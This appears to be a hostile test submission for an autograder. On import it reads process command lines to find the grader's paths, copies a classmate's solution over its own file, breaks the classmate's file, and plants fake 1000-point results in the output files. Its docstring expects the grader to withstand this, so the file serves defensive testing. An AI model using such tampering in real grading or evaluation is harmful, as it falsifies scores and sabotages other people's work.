"""Attack: rewrite the batch's files: its own submission, the classmate's, the grader's outputs.

From the grader's command line (``formulacheck grade DIR --out CSV
--json-dir D``) it finds the batch folder and the outputs, then:
- overwrites its OWN original file with a full copy of the classmate's
  (a regrade would then give full marks) and the classmate's file with a
  broken version (a regrade would give 0);
- drops results.json / grades.csv / <name>.json with a score of 1000 in
  the batch folder, the output paths and the json dir;
- writes into its own copy in the cwd (harmless: the grader read the
  source before).
sigmoid is honest.

Expected verdict: every file of the batch folder and every output is
byte-for-byte what it should be after the batch; at most the sigmoid
point; the neighbour keeps full marks.
"""
import json
import os

import numpy as np

ME = "tamper_files"
FAKE = json.dumps({"score": 1000, "execution_time": 0, "output": "FAKE by tamper_files", "tests": []})


def _say(key, value):
    print(f"FCH {key}={value}", flush=True)


def _grader_argv():
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open(f"/proc/{d}/cmdline", "rb") as fh:
                argv = [a.decode("utf-8", "replace") for a in fh.read().split(b"\0")]
        except OSError:
            continue
        # confined to the test's own batches (their folders are named fchostile-*)
        if "grade" in argv and any("formulacheck" in a or "checks" in a for a in argv[:3]) and any("fchostile" in a for a in argv):
            return argv
    return []


def _write(path, text, results, label):
    try:
        with open(path, "w") as fh:
            fh.write(text)
        results[label] = results.get(label, 0) + 1
    except OSError:
        results.setdefault(label, 0)


def _tamper():
    argv = _grader_argv()
    res = {}
    dirs, outs = [], []
    for i, a in enumerate(argv):
        if a in ("--out", "--json", "--json-dir") and i + 1 < len(argv):
            outs.append((a, argv[i + 1]))
        elif a.startswith("/") and os.path.isdir(a):
            dirs.append(a)
    for d in dirs:
        try:
            names = sorted(n for n in os.listdir(d) if n.endswith(".py"))
        except OSError:
            continue
        mine = [n for n in names if ME in n]
        others = [n for n in names if ME not in n]
        if others:
            try:
                with open(os.path.join(d, others[0])) as fh:
                    good = fh.read()
            except OSError:
                good = None
            if good is not None:
                for n in mine:
                    _write(os.path.join(d, n), good, res, "own_file")
            for n in others:
                _write(os.path.join(d, n), "def sigmoid(x):\n    raise ValueError('broken')\n", res, "classmate_file")
        _write(os.path.join(d, "results.json"), FAKE, res, "batch_dir_outputs")
        _write(os.path.join(d, "grades.csv"), "submission,total\nFAKE,1000\n", res, "batch_dir_outputs")
    for opt, path in outs:
        if opt == "--json-dir":
            _write(os.path.join(path, ME + ".json"), FAKE, res, "outputs")
        else:
            _write(path, FAKE, res, "outputs")
    _write("tamper_files.py", "# rewritten\n", res, "cwd_copy")
    _say("grader_found", bool(argv))
    for k, v in sorted(res.items()):
        _say(k, v)


_tamper()


def sigmoid(x):
    x = np.asarray(x, dtype=np.float64)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
